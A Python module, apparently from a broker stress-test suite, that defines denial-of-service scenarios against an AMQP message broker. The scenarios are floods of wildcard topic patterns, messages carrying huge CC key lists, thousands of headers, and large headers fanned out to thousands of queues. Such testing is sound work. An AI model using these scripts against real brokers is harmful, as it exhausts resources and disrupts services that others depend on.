"""A message that many keys, patterns, headers or queues make expensive."""

from pika import spec

from .attacker import MB, attack, publish


def patterns(many):
    """Patterns of a topic exchange with many places to begin."""
    return (("q", f"#.a.#.b{number}.#.*.#.*", None) for number in range(many))


@attack()
def topic_words(client, scaled):
    """Keys of 127 words against patterns with several `#`."""
    client.declare("q")
    client.bind("amq.topic", patterns(scaled(500)))
    data = publish("amq.topic", ".".join(["a"] * 127)) * 150
    yield
    client.write(data)
    client.over()


@attack()
def topic_cc(client, scaled):
    """One message with 150 keys against 1,000 patterns."""
    client.declare("q")
    client.bind("amq.topic", patterns(scaled(1000)))
    keys = [f"{'a.' * 60}b{number}" for number in range(150)]
    yield
    client.write(publish("amq.topic", "a", {"CC": keys}))
    client.over()


@attack()
def fanout_cc(client, scaled):
    """One message with 1,000 keys through 4,000 bindings that ignore keys."""
    client.fan_out(scaled(4000))
    yield
    client.write(publish("amq.fanout", "a", {"CC": [f"k{n}" for n in range(999)]}))
    client.over()


@attack()
def headers_many(client, scaled):
    """9,000 headers against 500 bindings of a headers exchange."""
    client.declare("q")
    client.bind("amq.headers", (
        ("q", "", {"x-match": "any", **{f"h{number}.{n}": n for n in range(20)}})
        for number in range(scaled(500))))
    data = publish("amq.headers", "", {f"h{number}": number for number in range(9000)})
    yield
    client.write(data)
    client.over()


@attack(most=60 * MB)
def fanout_headers(client, scaled):
    """One message with 120 KB of headers to 8,000 queues."""
    names = client.fan_out(scaled(8000))
    data = publish("amq.fanout", "", {"large": "x" * 120_000})
    yield
    client.write(data)
    client.over()
    yield
    for name in names:
        client.send(1, spec.Queue.Delete(queue=name, nowait=True))
    client.over()
